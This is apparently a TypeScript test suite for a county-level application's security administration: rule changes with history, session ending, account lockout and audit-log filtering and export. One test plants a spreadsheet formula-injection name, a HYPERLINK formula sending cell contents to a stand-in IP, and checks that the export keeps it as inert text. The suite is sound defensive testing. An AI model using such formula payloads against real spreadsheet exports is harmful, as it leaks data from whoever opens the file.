import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { readXlsx } from 'hucre/xlsx';
import { letIn } from '../../../test/harness/let-in.ts';
import { asking, type Caller, callerOf, createWorld, secret, type World } from '../../../test/harness/world.ts';

let world: World;
let security: Caller;
let auditor: Caller;
before(async () => {
  world = await createWorld();
  security = await world.signIn('securityAdministrator');
  auditor = await world.signIn('auditor');
});
after(() => world.end());

const set = (key: string, value: number, more: object = {}) =>
  security.post('/api/security/set-rule', { key, value, source: '县局〔2026〕3号', verified: true, ...more });

interface Rule {
  readonly key: string;
  readonly value: number;
  readonly verified: boolean;
  readonly source: string;
  readonly history: readonly { readonly value: number; readonly setBy: string }[];
}
const rule = async (key: string) =>
  ((await security.get('/api/security/rules')).json as Rule[]).find((each) => each.key === key);

const audit = async (more: object = {}) => {
  const input = JSON.stringify({ from: '2026-01-01', to: '2027-12-31', ...more });
  const answer = await auditor.get(`/api/audit?input=${encodeURIComponent(input)}`);
  assert.equal(answer.status, 200, JSON.stringify(answer.json));
  return answer.json as {
    lines: { id: string; event: string; ok: boolean; who: string; object: string }[];
    next: string | null;
  };
};

test('a rule is shown with its ground and as unverified until somebody has checked it, and keeps its history', async () => {
  assert.deepEqual([(await rule('lockMinutes'))?.value, (await rule('lockMinutes'))?.verified], [15, false]);
  assert.equal((await set('lockMinutes', 2)).status, 422, 'below what is reasonable');
  assert.equal((await set('lockMinutes', 20, { source: '' })).status, 422, 'without a ground');
  assert.equal((await set('noSuchRule', 20)).status, 404);
  assert.equal((await set('lockMinutes', 20)).status, 200);
  world.clock.set('2026-03-03T02:00:00.000Z');
  assert.equal((await set('lockMinutes', 30, { verified: false })).status, 200);
  const found = await rule('lockMinutes');
  assert.deepEqual([found?.value, found?.verified, found?.source], [30, false, '县局〔2026〕3号']);
  assert.deepEqual(
    found?.history.map(({ value }) => value),
    [30, 20],
  );
  assert.ok((await audit({ group: 'powers' })).lines.some(({ object }) => object.includes('锁定时长：20 改为 30')));
});

test('a rule holds at once for sessions that stand: whoever now must enrol a second factor does so before going on', async () => {
  const chief = await world.signIn('sectionChief');
  assert.equal((await chief.get('/api/me')).status, 200);
  assert.equal((await set('secondFactor.sectionChief', 1)).status, 200);
  assert.equal((await chief.get('/api/me')).status, 401);
  assert.equal((await set('secondFactor.sectionChief', 0)).status, 200);
  assert.equal((await chief.get('/api/me')).status, 200);
});

test('the idle end of a county holds at once, and open live pages do not put it off', async () => {
  const person = await world.signIn('leader');
  assert.equal((await set('idleMinutes', 10)).status, 200);
  for (let times = 0; times < 2; times += 1) {
    pass(4 * 60);
    const live = await liveOf(person);
    await live.cancel();
  }
  pass(3 * 60);
  assert.equal((await person.get('/api/me')).status, 401);
  security = callerOf(world.server, security.id, await letIn(world.database.owner, secret, security.id, world.clock()));
  auditor = callerOf(world.server, auditor.id, await letIn(world.database.owner, secret, auditor.id, world.clock()));
  assert.equal((await set('idleMinutes', 480)).status, 200);
});

const pass = (seconds: number) => world.clock.set(new Date(Date.parse(world.clock()) + seconds * 1000).toISOString());

/** The live connection of somebody, as a stream to read. */
async function liveOf(person: Caller): Promise<ReadableStreamDefaultReader<Uint8Array>> {
  const headers = { cookie: person.cookie, host: 'localhost' };
  const response = await world.server.app.fetch(new Request('http://localhost/api/live', { headers }));
  assert.equal(response.status, 200);
  const reader = response.body?.getReader();
  assert.ok(reader);
  await reader.read(); // it is open
  return reader;
}

/** Reads a stream to its end, or says that it had none in ten seconds. */
async function ends(reader: ReadableStreamDefaultReader<Uint8Array>): Promise<boolean> {
  const late = AbortSignal.timeout(10_000);
  const lateness = new Promise<'late'>((resolve) => late.addEventListener('abort', () => resolve('late')));
  for (;;) {
    const next = await Promise.race([reader.read(), lateness]);
    if (next === 'late') return false;
    if (next.done) return true;
  }
}

test('sessions that are ended end at once, also for pages that stand open; others go on', async () => {
  const person = await world.signIn('inspector');
  const other = await world.signIn('inspector');
  const [live, others] = [await liveOf(person), await liveOf(other)];
  const online = (await security.get('/api/security/sessions')).json as { accountId: string }[];
  assert.ok([person, other].every(({ id }) => online.some(({ accountId }) => accountId === id)));
  assert.equal((await security.post('/api/security/end-sessions', { id: person.id })).status, 200);
  assert.equal((await person.get('/api/me')).status, 401);
  assert.ok(await ends(live));
  assert.equal((await other.get('/api/me')).status, 200);
  await others.cancel();
  const left = (await security.get('/api/security/sessions')).json as { accountId: string }[];
  assert.ok(!left.some(({ accountId }) => accountId === person.id));
  assert.ok((await audit({ group: 'powers' })).lines.some(({ event }) => event === 'sessionsEnded'));
});

test('a locked account is unlocked by the security administrator, and by nobody else', async () => {
  const { accountId, password } = await world.server.auth.createWithFirstPassword({
    username: 'locked-out',
    name: '忘事人',
    posts: [{ county: '519901', area: '519901', role: 'writer', validFrom: '2020-01-01' }],
  });
  const nobody = callerOf(world.server, '', '');
  const enter = (typed: string) => nobody.post('/api/auth/sign-in', { username: 'locked-out', password: typed });
  for (let time = 0; time < 5; time += 1) await enter('Wrong-2026');
  assert.equal((await enter(password)).status, 429);
  assert.equal((await auditor.post('/api/security/unlock', { id: accountId })).status, 403);
  assert.equal((await security.post('/api/security/unlock', { id: accountId })).status, 200);
  pass(1);
  assert.equal((await enter(password)).status, 200);
});

test('the audit tells sign-ins, failures, refusals and changes of powers; filters narrow it and pages follow each other', async () => {
  const inspector = await world.signIn('inspector');
  assert.equal((await inspector.get('/api/accounts')).status, 403);
  const refused = (await audit({ group: 'refused', ok: false })).lines;
  assert.ok(refused.some(({ object }) => object.includes('查看账号') && object.includes('/api/accounts')));
  assert.ok(refused.every(({ ok, event }) => !ok && event === 'refused'));
  const signIns = (await audit({ group: 'signIn', words: 'locked-out' })).lines.map(({ event }) => event);
  for (const event of ['signIn', 'signInFailed', 'locked']) assert.ok(signIns.includes(event), event);
  assert.deepEqual((await audit({ from: '2025-01-01', to: '2025-12-31' })).lines, []);
  for (let time = 0; time < 130; time += 1) await inspector.get('/api/audit');
  const first = await audit();
  assert.equal(first.lines.length, 100);
  const second = await audit({ after: first.next });
  assert.equal(new Set([...first.lines, ...second.lines].map(({ id }) => id)).size, 100 + second.lines.length);
  assert.equal((await audit({ words: '%' })).lines.length, 0, 'a sign is a sign');
});

test('signing out, and ending sessions of one’s own elsewhere, stand in the audit', async () => {
  const person = await world.signIn('inspector');
  const again = async () =>
    callerOf(world.server, person.id, await letIn(world.database.owner, secret, person.id, world.clock()));
  const [phone, tablet] = [await again(), await again()];
  const own = (await person.get('/api/auth/sessions')).json as { id: string; current: boolean }[];
  const other = own.find(({ current }) => !current);
  assert.equal((await person.post('/api/auth/sessions/end', { id: other?.id })).status, 204);
  assert.equal((await person.post('/api/auth/sessions/end', { id: other?.id })).status, 404, 'it is over');
  assert.equal((await person.post('/api/auth/sessions/end-others')).status, 204);
  for (const gone of [phone, tablet]) assert.equal((await gone.get('/api/me')).status, 401);
  assert.equal((await person.post('/api/auth/sign-out')).status, 204);
  assert.equal((await person.post('/api/auth/sign-out')).status, 204, 'nobody is left to sign out');
  const everywhere = await again();
  assert.equal((await everywhere.send('DELETE', '/api/auth/sessions')).status, 204);
  const username = (
    await world.database.owner.query<{ username: string }>('select username from account where id = $1', [person.id])
  ).rows[0]?.username;
  const told = (await audit({ group: 'signIn', words: username })).lines.map(({ event, object, who, ok }) => [
    event,
    object,
    who,
    ok,
  ]);
  assert.deepEqual(told, [
    ['signOut', `${username}：全部登录`, '测试inspector', true],
    ['signOut', username, '测试inspector', true],
    ['sessionsEndedBySelf', `${username}：其他各处登录`, '测试inspector', true],
    ['sessionsEndedBySelf', `${username}：一处登录`, '测试inspector', true],
  ]);
});

test('a name typed as a formula stays a text in the audit that is taken along', async () => {
  const formula = '=HYPERLINK("http://192.0.2.1/?x="&A1,"点此")';
  const posts = [{ county: '519901', area: '519901', role: 'writer', validFrom: '2020-01-01' }] as const;
  await world.server.auth.createWithFirstPassword({ username: 'formulist', name: formula, posts });
  const typed = { username: 'formulist', password: 'Wrong-2026' };
  assert.equal((await callerOf(world.server, '', '').post('/api/auth/sign-in', typed)).status, 401);
  const ask = { from: '2026-01-01', to: '2026-12-31', words: 'hyperlink' };
  const path = `http://localhost/api/audit-export?input=${encodeURIComponent(JSON.stringify(ask))}`;
  const headers = { cookie: auditor.cookie, host: 'localhost' };
  const response = await world.server.app.fetch(new Request(path, { headers }));
  assert.equal(response.status, 200);
  const [sheet] = (await readXlsx(new Uint8Array(await response.arrayBuffer()), { readStyles: true })).sheets;
  assert.deepEqual(sheet?.rows[1]?.slice(1, 5), [formula, '登录失败', '未成功', 'formulist：用户名或密码不正确']);
  const cell = sheet?.cells?.get('1,1');
  assert.deepEqual([cell?.formula, cell?.style?.numFmt], [undefined, '@']);
});

test('the audit cannot be changed by requests, and only the audit administrator takes it along', async () => {
  for (const statement of ['delete from access_log', `update access_log set ok = true`])
    await assert.rejects(world.database.app.query(statement), { code: '42501' });
  const path = asking('/audit-export', { from: '2026-01-01', to: '2026-12-31' });
  assert.equal((await security.get(path)).status, 403);
  const file = await auditor.get(path);
  assert.equal(file.status, 200);
  assert.match(file.headers.get('content-type') ?? '', /spreadsheetml/);
  assert.ok((await audit()).lines.some(({ event }) => event === 'auditExported'));
});
